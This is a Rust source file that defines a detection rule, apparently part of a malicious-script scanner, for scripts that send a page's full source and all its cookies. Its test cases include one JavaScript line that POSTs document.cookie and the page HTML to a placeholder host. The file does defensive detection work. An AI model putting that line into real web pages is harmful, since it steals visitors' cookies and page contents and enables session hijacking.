//! `page-source-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "page-source-sent",
    description: "The script sends the source of the whole page and all its cookies.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::PageSource]),
        one(&[Atom::AllCookies]),
        one(&[Atom::Post, Atom::PostMethod, Atom::AddressFromData, Atom::Request, Atom::Beacon]),
    ],
    within: 120,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "x.open('POST','https://c.example/');x.send('c='+document.cookie+'&h='+document.documentElement.outerHTML)",
        ],
        without: &[
            "editor.load(document.documentElement.outerHTML)",
            "document.body.innerHTML='';fetch('/a?'+document.cookie)",
            r#"fetch('/feedback',{method:'POST',body:JSON.stringify({h:document.documentElement.outerHTML,l:(document.cookie.match(/lang=(\w+)/)||[])[1]})})"#,
        ],
    },
};
